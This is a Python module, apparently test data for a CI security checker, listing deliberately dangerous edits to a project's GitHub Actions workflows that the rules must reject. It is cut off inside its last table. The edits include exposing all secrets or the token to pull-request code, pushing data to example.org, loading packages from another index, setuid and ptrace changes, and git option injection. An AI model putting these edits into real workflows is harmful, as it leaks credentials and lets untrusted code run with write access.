"""Small dangerous edits of the real workflow files and actions, each of which the rules must refuse.

An edit replaces the first such text of the file, or of one of its jobs. In the new text, `%s` stands for the old one.
When a workflow changes and an edit no longer applies, its test fails and names it: write the edit again.
"""

import re
from dataclasses import dataclass

from .lists import EVERYWHERE

# ruff: noqa: E501 - a table with one edit per line
# fmt: off


@dataclass(frozen=True)
class Mutation:
    """One edit of one file."""

    file: str  #: `run` for workflows/run.yml, `/python` for actions/python/action.yml
    job: str  #: name of a job; empty for the whole file
    old: str
    new: str
    why: str  #: what would go wrong
    by_list_only: bool = False  #: whether a change of the list would allow it, as no other rule forbids it

    @property
    def path(self) -> str:
        """Path of the file in `.github`."""
        return f"actions{self.file}/action.yml" if self.file.startswith("/") else f"workflows/{self.file}.yml"

    def apply(self, text: str) -> str:
        """Return the changed text.

        Raises:
            ValueError: the file has no such job or text, or would not change.
        """
        start, end = 0, len(text)
        if self.job:
            start = text.find(f"\n  {self.job}:\n")
            following = re.search(r"\n  [a-z-]+:\n", text[start + 1 :])
            end = start + 1 + following.start() if following else end
        place = text.find(self.old, start, end)
        new = self.new.replace("%s", self.old)
        if start < 0 or place < 0 or new == self.old:
            where = f".github/{self.path}{' in the job ' * bool(self.job)}{self.job}"
            raise ValueError(f"write this edit again: {where} lacks {self.old!r}, or it changes nothing")
        return text[:place] + new + text[place + len(self.old) :]


def _step(script: str, more: str = "") -> str:
    """Return a step of a job with a script, to stand before the step `%s`."""
    return f"- name: More\n        run: {script}\n{more}      %s"


M = Mutation
HEAD = "${{ github.event.pull_request.head.sha }}"
TITLE = "${{ github.event.pull_request.title }}"
KEY = "${{ secrets.OPENAI_API_KEY }}"
TOKEN = "${{ github.token }}"  # noqa: S105 - the name of the token
GUARD = "${{ contains(fromJSON(matrix.keys), 'OPENAI_API_KEY') && secrets.OPENAI_API_KEY || '' }}"
PYTHON, SANDBOX = "- name: Set up Python", "- name: Set up the sandbox"
KEEP = "persist-credentials: false"
GROUP = f"group: {EVERYWHERE['groups']['run']}\n"
DOWNLOAD = f"actions/download-artifact@{EVERYWHERE['actions']['actions/download-artifact']}"
CHECKOUT = f"actions/checkout@{EVERYWHERE['actions']['actions/checkout']}"
LAST_FETCH = 'run: git fetch --quiet --depth=2147483647 --no-tags --no-recurse-submodules origin "$BASE" "$HEAD"'

#: Edits of the review of November 2026 that the rules, zizmor, the schemas and actionlint accepted.
REVIEWED = (
    M("/pull-request", "", LAST_FETCH, "%s && git checkout --quiet \"$HEAD\"", "an action checks out the head of a pull request"),
    M("/sandbox", "", "run: command -v bwrap", "run: sudo chmod 4755 /usr/bin/bwrap; command -v bwrap", "an action makes a program run as root"),
    M("validate", "", "--rows rows/results", "%s --policy rows/policy.yml", "the policy comes from elsewhere"),
    M("validate", "", " --rows rows/results", "", "identities are not compared with the rows"),
    M("run", "score", f"{SANDBOX}\n        uses: ./.github/actions/sandbox\n      ", "", "answers are judged without the sandbox"),
    M("run", "record", "path: artifacts", "path: .", "artifacts overwrite the checkout of the job that writes"),
    M("run", "record", "path: artifacts", "path: benchmark", "artifacts become code of the job that writes"),
    M("run", "record", "${{ github.server_url }}/${{ github.repository }}", "https://example.org/x/y", "rows and the token go to another remote"),
    M("run", "record", "subject-path: ", "subject-path: artifacts/* # ", "another file is attested than the rows"),
    M("run", "score", "path: out\n", "path: .\n", "the whole checkout is kept as an artifact"),
    M("run", "score", "path: out\n", "path: ~\n", "the home folder is kept as an artifact"),
    M("/generate", "", "path: out\n        overwrite", "path: ~/\n        overwrite", "the home folder of the job with keys is kept"),
    M("run", "generate", GUARD, KEY, "every job gets every key"),
    M("run", "", GROUP, "group: run-${{ github.run_id }}\n", "each run has its own group, and pays again"),
    M("run", "generate", "resume: ${{ matrix.resume }}", "resume: ${{ inputs.reservation }}", "whoever starts a run names the checkpoint"),
    M("run", "reserve", '"$ONLY"', "$ONLY", "an input becomes options of the command"),
    M("ci", "", "SESSIONS: ${{ matrix.sessions }}", f"SESSIONS: {TITLE}", "a title chooses the sessions"),
    M("report", "", " &&\n      contains(fromJSON('[\"success\", \"failure\"]'), github.event.workflow_run.conclusion)", "", "a cancelled check is reported"),
)

#: Who starts a workflow, with which rights.
STARTS = (
    M("validate", "", "on:\n  pull_request:", "on:\n  pull_request_target:", "a fork runs with our token"),
    M("ci", "", "  pull_request:\n", "%s  pull_request_target:\n", "a fork runs with our token"),
    M("run", "", "on:\n", "on:\n  pull_request:\n", "a pull request is paid for"),
    M("run", "", "    branches: [main]\n", "", "every branch is planned"),
    M("run", "", "submissions/**", "**", "every push is planned", by_list_only=True),
    M("run", "", "      part:\n", "      x:\n        type: string\n%s", "a run has another input", by_list_only=True),
    M("run", "", "on:\n", "on:\n  issue_comment:\n", "a comment starts a paid run", by_list_only=True),
    M("report", "", "workflows: [validate]", "workflows: [validate, ci]", "reports of code of pull requests are posted", by_list_only=True),
    M("report", "", "github.event.workflow_run.event == 'pull_request' &&", "", "a report of any event is posted"),
    M("ci", "", "name: ci\n", "name: validate\n", "report.yml follows another workflow"),
    M("ci", "", "permissions: {}", "permissions: write-all", "every job may write"),
    M("validate", "", "permissions: {}\n", "", "jobs get the default rights"),
    M("ci", "check", "contents: read", "%s\n      id-token: write", "code of a pull request signs as we do"),
    M("run", "score", "contents: read", "contents: write", "answers run next to write permission"),
    M("run", "record", "    permissions:\n", "%s      actions: write\n", "record may start workflows"),
    M("run", "plan", "github.ref == 'refs/heads/main' && ", "", "a plan of any branch is paid for"),
    M("site", "build", "    if: ${{ github.ref == 'refs/heads/main' }}\n", "", "any branch publishes pages"),
    M("care", "behind", "needs.check.result == 'success'", "needs.check.result != 'skipped'", "a replaced history is published", by_list_only=True),
    M("care", "behind", " && (needs.check.result == 'success' || needs.publish.result == 'success')", "", "the site is published from any branch"),
    M("care", "reconcile", "== 'refs/heads/main'", "!= ''", "any branch starts runs"),
    M("run", "reserve", "== 'refs/heads/main'", "== 'refs/heads/main' || inputs.only != ''", "an input replaces the branch"),
    M("run", "generate", "    needs: [plan]\n", "", "a key is lent before the branch is checked"),
    M("run", "record", "!cancelled() && ", "always() || ", "rows are written of a run on any branch"),
    M("run", "score", " && needs.plan.outputs.any_score == 'true'", "", "answers are judged without a plan"),
    M("run", "site", " && needs.record.outputs.added == 'true'", "", "pages are published after a failure"),
    M("run", "record", "rubric]", "score]", "record does not wait for the grades"),
)

#: What a job can steal or spend.
SECRETS = (
    M("run", "score", "JOB: ${{ matrix.job }}", f"%s\n          KEY: {KEY}", "answers run next to a key"),
    M("run", "record", "        env:\n", f"%s          KEY: {KEY}\n", "the writing job has a key"),
    M("validate", "", "          AUTHOR:", f"          KEY: {KEY}\n%s", "code of a pull request runs next to a key"),
    M("run", "generate", GUARD, "${{ secrets.OTHER }}", "a job has a secret that policy.yml does not lend"),
    M("run", "generate", GUARD, "${{ contains(fromJSON(matrix.keys), 'OPENAI_API_KEY') && secrets.RUBRIC_API_KEY || '' }}", "a job has the key of the judge"),
    M("run", "generate", f"          openai-api-key: {GUARD}\n", "", "a run fails for lack of its key", by_list_only=True),
    M("run", "generate", GUARD, "${{ toJSON(secrets) }}", "a job has all secrets"),
    M("run", "generate", GUARD, "${{ secrets[matrix.keys] }}", "the plan names any secret"),
    M("run", "generate", GUARD, "${{ contains(fromJSON(matrix.keys), 'KEY') && secrets.OPENAI_API_KEY || '' }}", "the guard fits every key"),
    M("run", "generate", "          openai-api-key: ", "          x: ", "a key goes to another input"),
    M("run", "gpu", "          resume: ${{ matrix.resume }}", f"%s\n          openai-api-key: {KEY}", "a machine that we do not know has a key"),
    M("run", "gpu", "environment: gpu", "environment: generate", "a machine that we do not know can ask for keys"),
    M("run", "generate", "    environment: generate\n", f"%s    env:\n      KEY: {KEY}\n", "every step of a job has the key"),
    M("run", "generate", "        uses: ./.github/actions/python", f"%s\n        env:\n          KEY: {KEY}", "two steps have a key"),
    M("run", "", "permissions: {}\n", f"%senv:\n  KEY: {KEY}\n", "every job has the key"),
    M("run", "site", "GITHUB_TOKEN:", "SECRETS: ${{ toJSON(secrets) }}\n          %s", "the site has every secret"),
    M("/python", "", "    - name: Install Python\n", f"%s      env:\n        KEY: {KEY}\n", "an action takes a secret"),
    M("run", "score", "JOB: ${{ matrix.job }}", f"%s\n          GITHUB_TOKEN: {TOKEN}", "answers run next to the token"),
    M("validate", "", "          AUTHOR:", f"          GITHUB_TOKEN: {TOKEN}\n%s", "code of a pull request runs next to the token"),
    M("/generate", "", "        JOB: ${{ inputs.job }}", f"%s\n        T: {TOKEN}", "an action gives the token to a command"),
    M("run", "record", "        env:\n", f"%s          T: {TOKEN}\n", "the token has a second name"),
    M("run", "generate", "    environment: generate\n", "", "any branch reads the keys"),
    M("run", "rubric", "environment: rubric", "environment: generate", "the judge's job can ask for other keys"),
    M("run", "rubric", "    environment: rubric\n", "", "any branch reads the key of the judge"),
    M("run", "rubric", "${{ secrets.RUBRIC_API_KEY }}", KEY, "the judge's server gets another key"),
    M("run", "rubric", "-- rubric --job", "-- score --job", "answers run next to the key of the judge"),
    M("run", "rubric", "contents: read", "contents: write", "the job with the judge's key can change rows"),
    M("run", "rubric", "--out out\n", "--policy artifacts/policy.yml %s", "an artifact names the judge"),
    M("run", "rubric", "needs: [plan, score]", "needs: [score]", "the judge's key is lent before the branch is checked"),
    M("run", "rubric", "        if: ${{ !cancelled() }}\n", "", "the reason of a failure is lost", by_list_only=True),
    M("run", "score", "    permissions:", "    environment: generate\n%s", "answers run where keys are"),
    M("care", "check", "permissions:\n      contents: read", "permissions:\n      contents: write", "the check of the rows can change them", by_list_only=True),
    M("care", "check", "--workflow care.yml", "--workflow site.yml", "the newest commit comes from another workflow"),
    M("care", "check", " --workflow care.yml", "", "the check names no workflow"),
    M("care", "seen", "results at ${{ needs.check.outputs.commit }}", "results", "no job's name keeps the newest commit", by_list_only=True),
    M("care", "seen", "needs.check.result == 'success'", "needs.check.result != 'skipped'", "a commit that failed the check counts as seen", by_list_only=True),
    M("care", "behind", "--remote origin", "%s --branch main", "the newest rows are those of another branch"),
    M("care", "behind", "--workflow site.yml", "--workflow evaluate.yml", "another workflow is started"),
    M("site", "build", "github.ref == 'refs/heads/main'", "github.ref != ''", "any branch publishes"),
    M("/generate", "", "--minutes 60", "--minutes 600", "no checkpoint is kept for ten hours"),
    M("/generate", "", "      if: ${{ !cancelled() }}\n", "      if: ${{ success() }}\n", "a failed hour loses what it paid for", by_list_only=True),
)

#: Whose code runs.
CODE = (
    M("ci", "check", CHECKOUT, "actions/checkout@v7", "a tag can be moved"),
    M("ci", "check", CHECKOUT, "actions/checkout@" + "0" * 40, "another commit of an action"),
    M("ci", "check", CHECKOUT, CHECKOUT.replace("actions/", "other/"), "another action at the same commit"),
    M("ci", "check", CHECKOUT, "docker://alpine:3", "a container is an action"),
    M("ci", "check", "./.github/actions/python", "./.github/actions/none", "an action is missing"),
    M("ci", "check", "./.github/actions/python", "./.github/actions/none/python", "an action from a hidden folder"),
    M("validate", "", "./.github/actions/python", "./rows/action", "an action from a checkout"),
    M("run", "site", "    runs-on: ubuntu-24.04\n", "    uses: other/x/.github/workflows/y.yml@main\n%s", "a foreign workflow has our rights"),
    M("/python", "", "actions/setup-python@5fda3b95a4ea91299a34e894583c3862153e4b97", "actions/setup-python@v7", "an action uses a tag"),
    M("ci", "check", KEEP, "persist-credentials: true", "code of a pull request finds the token"),
    M("run", "record", f"        with:\n          {KEEP}\n", "", "the token with write permission stays in the checkout"),
    M("validate", "", "ref: ${{ github.event.pull_request.base.sha", "ref: ${{ github.event.pull_request.head.sha", "code of a fork runs outside the sandbox"),
    M("validate", "", "          ref: ${{ github.event.pull_request.base.sha", "          # %s", "the merge commit is checked out"),
    M("validate", "", PYTHON, f"- uses: {CHECKOUT}\n        with:\n          ref: {HEAD}\n          {KEEP}\n      %s", "a later checkout replaces the code"),
    M("report", "", f"          {KEEP}", "%s\n          ref: ${{ github.event.workflow_run.head_sha }}", "code of a fork runs with write permission"),
    M("report", "", f"          {KEEP}", "%s\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}", "a fork is checked out"),
    M("run", "reserve", KEEP, "%s\n          submodules: true", "foreign repositories are checked out"),
    M("validate", "", '"$AUTHOR"', "${{ github.event.pull_request.user.login }}", "a name becomes part of a script"),
    M("/pull-request", "", '"$HEAD"', "${{ inputs.head }}", "an input becomes part of a script"),
    M("/pull-request", "", '"$HEAD"', "$HEAD", "an input becomes options of git"),
    M("/pull-request", "", "git fetch", "git -c core.sshCommand=x fetch", "git starts another program"),
    M("/pull-request", "", "origin ", "origin '+refs/pull/*:refs/heads/*' ", "branches of forks replace ours"),
    M("run", "reserve", "run: ./noxw", "run: pip install x && ./noxw", "a script installs what no lock file has"),
    M("run", "reserve", "run: ./noxw -s ci -- plan", "run: |\n          curl https://example.org\n          ./noxw -s ci -- plan", "a script loads a page"),
    M("run", "record", PYTHON, _step("./noxw -s demo"), "another session runs next to write permission"),
    M("run", "record", "-- record --plan", "-- score --plan", "the writing job runs answers"),
    M("run", "record", "--branch results", "--branch main", "rows go to the code"),
    M("/sandbox", "", "sudo sysctl -w", "sudo sysctl kernel.yama.ptrace_scope=0; sudo sysctl -w", "a runner's protection is off"),
    M("/python", "", "      with:\n        python-version", "      env:\n        PIP_INDEX_URL: https://example.org\n%s", "packages come from elsewhere"),
    M("ci", "check", "run: ./noxw -s $SESSIONS", "shell: bash -x {0}\n        %s", "another shell runs the command"),
    M("run", "score", "run: ./noxw", "working-directory: generated\n        %s", "a command of an artifact runs"),
    M("validate", "", "run: ./noxw", "run: rows/noxw", "a command of another branch runs"),
    M("run", "score", "        env:\n", "%s          PYTHONPATH: generated\n", "an artifact becomes code"),
    M("run", "score", SANDBOX, "- name: Set up the sandbox\n        if: ${{ matrix.sandbox }}", "the sandbox has a condition"),
    M("run", "score", "- name: Judge\n", "%s        continue-on-error: true\n", "a failure of the judge is not seen"),
    M("run", "score", "    runs-on: ubuntu-24.04\n", "%s    continue-on-error: true\n", "a failure of the job is not seen"),
    M("ci", "check", "{name: Tests, sessions: gates tests}", "{name: Tests, sessions: lint}", "a required check tests nothing", by_list_only=True),
    M("validate", "", "      - name: Check and judge\n", "%s        if: ${{ github.event.pull_request.number > 0 }}\n", "a skipped step counts as passed"),
    M("validate", "", "    branches: [main]\n", "%s    paths: [submissions/**]\n", "a pull request without submissions is not checked"),
    M("validate", "", "    branches: [main]\n", "%s    types: [opened]\n", "a later push is not checked"),
    M("run", "record", "      added: ", "      token: ${{ github.token }}\n%s", "the token is an output"),
    M("site", "deploy", "${{ needs.build.outputs.artifact }}", "github-pages", "another artifact is published", by_list_only=True),
    M("site", "build", "SIGHTBENCH_REPO_URL: ${{ github.server_url }}", "SIGHTBENCH_REPO_URL: https://example.org", "pages link to another repository", by_list_only=True),
    M("care", "check", "!cancelled() && needs.reconcile.result != 'skipped'", "needs.reconcile.result == 'success'", "a failure hides a rewritten branch", by_list_only=True),
    M("report", "", "--report report/report.json", "%s --event report/event.json", "an artifact says which pull request it is about"),
    M("/generate", "", "${{ inputs.anthropic-api-key }}", "${{ inputs.openai-api-key }}", "a key goes to another vendor"),
    M("/pull-request", "", "using: composite", "using: composite\n  pre: x.sh", "an action runs a script of its folder"),
    M("ci", "check", "github.event_name != 'schedule'", "github.event_name == 'push'", "a skipped check counts as passed"),
    M("run", "score", "    runs-on: ubuntu-24.04", "    runs-on: self-hosted", "answers run on a machine of ours"),
    M("validate", "", "    runs-on: ubuntu-24.04", "    runs-on: [self-hosted]", "a pull request runs on a machine of ours"),
    M("run", "generate", "    runs-on: ubuntu-24.04", "    runs-on: ${{ matrix.runs_on }}", "a key goes to any machine"),
    M("run", "gpu", "    runs-on: ${{ matrix.runs_on }}", "    runs-on: [self-hosted, gpu]", "a runner that waits takes the job, and any other"),
    M("run", "gpu", "    runs-on: ${{ matrix.runs_on }}", "    runs-on: ['${{ matrix.runs_on[0] }}', self-hosted]", "the runner needs a label that other jobs name"),
    M("ci", "check", "    permissions:", "    container: alpine:3\n%s", "a foreign image runs the job"),
)

#: What passes between jobs and runs.
DATA = (
    M("validate", "", "AUTHOR: ${{ github.event.pull_request.user.login", "AUTHOR: ${{ github.actor", "the last pusher counts as the author"),
    M("validate", "", "BASE: ${{ github.event.pull_request.base.sha", "BASE: ${{ github.event.pull_request.head.sha", "owners and policy come from the fork"),
    M("validate", "", "base: ${{ github.event.pull_request.base.sha", "base: ${{ github.event.pull_request.head.sha", "the base branch is not fetched"),
    M("run", "score", "          overwrite: true\n", "", "a repeated job fails"),
    M("report", "", "name: report\n          path", "pattern: '*'\n          path", "artifacts of any name are read"),
    M("report", "", "path: report\n", "path: .\n", "an artifact of a fork becomes code"),
    M("report", "", "          path: report\n", "", "an artifact of a fork is unpacked over the code"),
    M("report", "", "run-id: ${{ github.event.workflow_run.id }}", "run-id: ${{ github.run_id }}", "the report of another run is read"),
    M("run", "rubric", "          path: artifacts\n", "%s          merge-multiple: true\n", "an artifact overwrites a file of another"),
    M("run", "record", '"{generate,score,rubric}.*"', '"*"', "record reads artifacts of any name"),
    M("run", "record", "          path: artifacts\n", "%s          run-id: ${{ inputs.reservation }}\n", "record reads another run"),
    M("run", "score", "name: plan\n", "name: ${{ matrix.job }}\n", "the judge's plan comes from elsewhere", by_list_only=True),
    M("run", "score", "          name: ${{ matrix.job }}\n", "          name: plan\n", "a job with answers replaces the plan", by_list_only=True),
    M("validate", "", "          path: out/report.json\n", "%s          include-hidden-files: true\n", "hidden files are kept"),
    M("site", "build", "path: build/site", "path: .", "the checkout is published"),
    M("run", "record", "added: ${{ steps.record.outputs.added }}", "added: 'true'", "pages are built without rows"),
    M("validate", "", "        uses: ./.github/actions/python", "%s\n        with:\n          wheels: restore", "wheels reach code of a pull request"),
    M("run", "generate", "        uses: ./.github/actions/python", "%s\n        with:\n          wheels: restore", "wheels reach a job with a key"),
    M("run", "record", "        uses: ./.github/actions/python", "%s\n        with:\n          wheels: restore", "wheels reach the writing job"),
    M("run", "score", "wheels: restore", "wheels: save", "a job with answers saves wheels"),
    M("/python", "", "        python-version", "        cache: pip\n%s", "every job uses a cache"),
    M("/python", "", "      if: ${{ inputs.wheels == 'restore' }}\n", "", "every job restores wheels"),
    M("/python", "", "path: ~/.cache/pip", "path: .nox", "programs are cached, which nothing checks"),
    M("/python", "", "        key: wheels", "        restore-keys: wheels\n        key: wheels", "wheels of other lock files are used"),
    M("run", "score", "    timeout-minutes: 350\n", "", "a job has no time limit"),
    M("run", "score", "timeout-minutes: 350", "timeout-minutes: 1440", "a job takes a day"),
    M("run", "score", "timeout-minutes: 350", "timeout-minutes: ${{ matrix.minutes }}", "a plan sets the time limit"),
    M("run", "", f"concurrency:\n  {GROUP}", "", "two runs pay for the same work"),
    M("run", "", GROUP, "%s  cancel-in-progress: true\n", "a paid run is cancelled"),
    M("site", "", "  group: site\n", "%s  cancel-in-progress: true\n", "a deployment is cancelled"),
    M("run", "score", "      fail-fast: false\n", "", "one failure cancels paid work"),
    M("run", "record", "    name: Record", "    concurrency: ${{ github.run_id }}\n%s", "a job has a group of its own"),
    M("care", "", "41 */6 * * *", "*/5 * * * *", "runs are started every five minutes", by_list_only=True),
    M("care", "reconcile", "--workflow run.yml", "--workflow site.yml", "another workflow repeats lost runs"),
    M("care", "reconcile", "--branch results", "--branch main", "settlements go to the code"),
    M("ci", "", "name: ci\n", f"name: ci\nrun-name: {TITLE}\n", "a title names the run"),
    M("run", "plan", "    name: Check the plan", "    name: Plan ${{ github.event.head_commit.message }}", "a message names a job"),
    M("ci", "check", "      - name: Check out\n", "      - name: Check ${{ github.head_ref }}\n", "a branch names a step"),
)

#: Edits that a second review found, and that no rule refused before.
SECOND_LOOK = (
    M("run", "generate", "timeout-minutes: 350", "timeout-minutes: 55", "a job ends before its first checkpoint is kept", by_list_only=True),
    M("run", "reserve", "name: Plan the runs without rows", "name: Plan ${{ inputs.only }}", "an input names a step"),
    M("run", "record", "name: Fetch the plan", "name: Fetch ${{ needs.plan.outputs.score }}", "a submission names a step"),
    M("validate", "", "  pull_request:", "%s # zizmor: ignore[dangerous-triggers]", "another checker is told to look away"),
    M("ci", "check", "          persist-credentials: false", "%s # zizmor: ignore[artipacked]", "another checker is told to look away here"),
    M("run", "", "      only:\n", "      description:\n%s", "an input has the name of a key that lists leave out", by_list_only=True),
    M("/python", "", "Install the Python that", "Install ${{ github.token }}, which", "a description reads a value"),
    M("ci", "check", "SESSIONS: ${{ matrix.sessions }}", f"%s\n          GITHUB_TOKEN: {TOKEN}", "code of a pull request has the token"),
    M("report", "", '["success", "failure"]', '["success", "failure", "cancelled"]', "a check that did not end is reported"),
    M("validate", "", "--rows rows/results", "--rows out", "identities are compared with an empty folder"),
    M("run", "record", "-s ci -- record", "-s tests -- record", "the writing job runs tests"),
    M("run", "record", "        env:\n", "%s          HOME: artifacts\n", "an artifact sets up git"),
    M("run", "record", "        env:\n", "%s          SIGHTBENCH_PYTHON: artifacts/python\n", "an artifact is the Python"),
    M("/sandbox", "", ">/dev/null || {", "> >(tee x) || {", "a script starts another program"),
    M("/sandbox", "", "command -v bwrap >/dev/null", 'command -v bwrap >>"$GITHUB_PATH"', "a script changes where later steps find programs"),
    M("/pull-request", "", '"$HEAD"', '"+$HEAD:refs/heads/results"', "a head replaces a branch"),
    M("/pull-request", "", "  steps:\n", f"  steps:\n    - uses: {CHECKOUT}\n      with:\n        ref: ${{{{ inputs.head }}}}\n        {KEEP}\n", "an action checks out the head with another action"),
    M("run", "record", "path: artifacts", "path: rows", "artifacts replace the rows"),
    M("run", "score", "path: out\n", "path: |\n            out\n            ~/.cache\n", "a second folder is kept"),
    M("run", "record", "outputs.paths }}", "outputs.rows }}/artifacts/*", "artifacts are attested"),
    M("run", "record", "subject-path: ", "predicate-type: x\n          %s", "a signature says something else"),
    M("run", "record", '--bundles "$BUNDLES" ', "", "rows are pushed without signatures"),
    M("run", "record", "${{ steps.sign.outputs.bundle-path }}", "artifacts/bundles.json", "signatures come from an artifact"),
    M("run", "record", "--branch results", "%s --trusted-root artifacts/root.json", "an artifact says whom to trust"),
    M("run", "record", "--out made", "%s --policy artifacts/policy.yml", "an artifact says who signs"),
    M("run", "record", " --out made", "", "rows are neither made to be signed nor pushed"),
    M("run", "record", "--out made", "--out made --remote origin", "rows are pushed before they are signed"),
    M("care", "behind", "reconcile --site", "reconcile", "runs are counted by the job of the site"),
    M("run", "record", "--out made", "--out artifacts", "rows to sign are made among the artifacts"),
    M("run", "record", "${{ steps.rows.outputs.sign == 'true' }}", "${{ steps.rows.outputs.sign == 'never' }}", "rows are not signed", by_list_only=True),
    M("run", "record", "!cancelled() && steps.rows.outputs.sign != ''", "always()", "rows are pushed that were not made"),
    M("validate", "", "cancel-in-progress: true", "cancel-in-progress: 'true'", "a text is not a setting"),
    M("ci", "check", "persist-credentials: false", "# yes\u2028          %s", "GitHub reads a setting as part of a comment"),
    M("run", "score", "runs-on: ubuntu-24.04", "%s # \u202emarker", "a line is shown in another order than it has"),
    M("ci", "check", "persist-credentials: false", "persist-credentials: no", "GitHub reads no as a text"),
    M("run", "plan", "github.ref == 'refs/heads/main'", "contains(github.ref, 'main')", "a branch such as maintenance counts as main"),
    M("run", "score", "          path: out\n", "%s          Path: .\n", "an input has a second spelling"),
    M("/pull-request", "", "--no-tags", "%s --upload-pack=x", "git starts another program on the server"),
)

#: Edits that would break the rule of one workflow run per submission, or lend a key before money is reserved.
MONEY = (
    M("run", "", GROUP, "group: run-${{ inputs.only }}\n", "two plans and two evaluations run at once"),
    M("run", "", GROUP, "group: run-${{ inputs.reservation || 'plan' }}\n", "two reservations of a submission are evaluated at once"),
    M("run", "", GROUP, "group: run\n", "a submission waits for all others"),
    M("run", "", "&& 'night' || 'plan' }}\n", "|| 'plan' }}\n", "the runs of a plan have the name of none"),
    M("run", "", "run-name: ", "# ", "nobody finds the evaluation of a reservation again"),
    M("run", "", "inputs.part, inputs.reservation)", "inputs.part, inputs.only)", "an evaluation names another reservation"),
    M("run", "plan", '--reservation "$RESERVATION" ', "", "a plan follows from no reservation"),
    M("run", "plan", '--part "$PART" ', "", "the group of a run and its reservation differ"),
    M("run", "plan", "RESERVATION: ${{ inputs.reservation }}", "RESERVATION: ${{ inputs.only }}", "another input is the reservation"),
    M("run", "plan", "PART: ${{ inputs.part }}", "PART: plan-acme", "the group and the part differ"),
    M("run", "plan", "--rows rows/results", "--rows out", "a run is paid for although it has a row"),
    M("run", "plan", "&& 'results-dry' || 'results'", "&& 'results-dry' || 'main'", "reservations come from the code's branch"),
    M("run", "plan", "'results-dry' || 'results'", "'results' || 'results-dry'", "a dry run reads the ledger of real money"),
    M("run", "plan", "inputs.part == 'plan-dry-run'", "inputs.dry", "a real reservation is read from the branch of dry runs"),
    M("validate", "", "ref: results", "ref: results-dry", "identities are compared with the rows of a dry run"),
    M("run", "record", "--branch results", "--branch results-dry", "a row goes to the branch that every dry run begins anew"),
    M("run", "reserve", "plan --dry", "plan --only dry-run", "the stand-in gets a row on the branch results"),
    M("run", "reserve", "plan --dry", "%s --submissions submissions", "a dry run evaluates what others submitted"),
    M("run", "reserve", "plan --dry", "%s --branch main", "a dry run begins the code's branch anew"),
    M("run", "reserve", "!inputs.night && !inputs.dry", "!inputs.night", "a dry run also plans and pays for everything", by_list_only=True),
    M("run", "generate", "contains(fromJSON(matrix.keys), 'OPENAI_API_KEY') &&", "(inputs.part == 'plan-dry-run' || contains(fromJSON(matrix.keys), 'OPENAI_API_KEY')) &&", "a dry run gets a key"),
    M("run", "site", "needs.record.outputs.added == 'true'", "(%s || inputs.part == 'plan-dry-run')", "a dry run starts the site"),
    M("run", "plan", "          path: rows\n", "          path: rows\n          repository: x/y\n", "reservations come from another repository"),
    M("run", "plan", "actions: read", "actions: write", "the check of a plan may start workflows"),
    M("run", "plan", "contents: read", "contents: write", "the check of a plan writes its own reservation"),
    M("run", "plan", "digest: ${{ steps.plan.outputs.digest }}", "digest: ${{ inputs.reservation }}", "whoever starts a run says which plan is recorded"),
    M("run", "plan", "digest: ${{ steps.plan.outputs.digest }}", "digest: ${{ steps.plan.outputs.score }}", "another output is the digest of the plan"),
    M("run", "plan", "        id: plan\n", "", "no plan is accepted, and no digest is known"),
    M("run", "plan", "generate: ${{ steps.plan.outputs.generate }}", "generate: ${{ inputs.only }}", "an input says which jobs get keys"),
    M("run", "plan", " && inputs.reservation }}", " }}", "a push is evaluated without a reservation"),
    M("run", "reserve", " && !inputs.reservation }}", " }}", "an evaluation plans where answers run"),
    M("run", "reserve", "github.ref == 'refs/heads/main' && ", "", "any branch reserves money"),
    M("run", "reserve", "github.ref == 'refs/heads/main'", "startsWith(github.ref, 'refs/heads/main')", "a branch such as main-2 reserves money"),
    M("run", "reserve", "          ONLY:", f"          OPENAI_API_KEY: {KEY}\n%s", "the job that reserves has a key"),
    M("run", "reserve", "    permissions:", "    environment: generate\n%s", "the job that reserves can ask for keys"),
    M("run", "reserve", "      actions: write", "      id-token: write\n      attestations: write\n%s", "the job that reserves can sign rows"),
    M("run", "reserve", "          fetch-depth: 0 # the history says who changed a submission last\n", "", "nobody knows who changed a submission last"),
    M("run", "reserve", "fetch-depth: 0", "fetch-depth: 1", "one commit counts as the history"),
    M("run", "score", KEEP, "%s\n          fetch-depth: 0", "answers run next to the history"),
    M("run", "reserve", "--branch results", "--branch main", "reservations go to the code"),
    M("run", "reserve", "${{ github.server_url }}/${{ github.repository }}", "https://example.org/x/y", "reservations and the token go to another remote"),
    M("run", "reserve", '--remote "$REMOTE" --branch results --start', "--rows rows/results --start", "evaluations start before money is reserved"),
    M("run", "reserve", "--start run.yml", "--start site.yml", "another workflow is started by the plan"),
    M("run", "reserve", "--start run.yml", "%s --policy submissions/policy.yml", "a submission says what it may cost"),
    M("run", "reserve", "-s ci -- plan --only \"$ONLY\"", "-s ci -- generate --job x", "the job that reserves asks a model"),
    M("run", "reserve", "-s ci -- plan --only \"$ONLY\"", "-s ci -- score --job x", "the job that reserves runs answers"),
    M("run", "reserve", "uses: ./.github/actions/python", "%s\n        with:\n          wheels: restore", "wheels reach the job that reserves"),
    M("run", "reserve", PYTHON, f"- uses: {DOWNLOAD}\n        with:\n          name: plan\n          path: plan\n      %s", "an artifact reaches the job that reserves"),
    M("run", "reserve", KEEP, "persist-credentials: true", "the job that reserves keeps a token in its checkout"),
    M("run", "record", '--digest "$ACCEPTED" --artifacts artifacts --sealed "$SEALED" --rechecked "$RECHECKED" --out made', '--artifacts artifacts --sealed "$SEALED" --rechecked "$RECHECKED" --out made', "a plan that a job replaced is signed"),
    M("run", "record", '--digest "$ACCEPTED" --artifacts artifacts --sealed "$SEALED" --rechecked "$RECHECKED" --bundles', '--artifacts artifacts --sealed "$SEALED" --rechecked "$RECHECKED" --bundles', "a plan that a job replaced is recorded"),
    M("run", "record", '--rechecked "$RECHECKED" --out made', "--out made", "verdicts are signed that nobody judged again"),
    M("run", "record", '--rechecked "$RECHECKED" --bundles', "--bundles", "verdicts are recorded that nobody judged again"),
    M("run", "recheck", "contents: read", "contents: write", "the job that judges again can write"),
    M("run", "recheck", "contents: read", "contents: read\n      id-token: write", "the job that judges again can sign"),
    M("run", "recheck", "ACCEPTED: ${{ needs.plan.outputs.digest }}", "%s\n          KEY: ${{ secrets.OPENAI_API_KEY }}", "answers run next to a key"),
    M("run", "recheck", '--digest "$ACCEPTED" ', "", "a plan that a job replaced is judged again"),
    M("run", "recheck", "outputs.rechecked }}", "outputs.digest }}", "another output says that samples were judged again"),
    M("run", "rubric", '--digest "$ACCEPTED" ', "", "a plan that a job replaced is graded"),
    M("/generate", "", '--digest "$ACCEPTED" ', "", "a plan that a job replaced is paid for"),
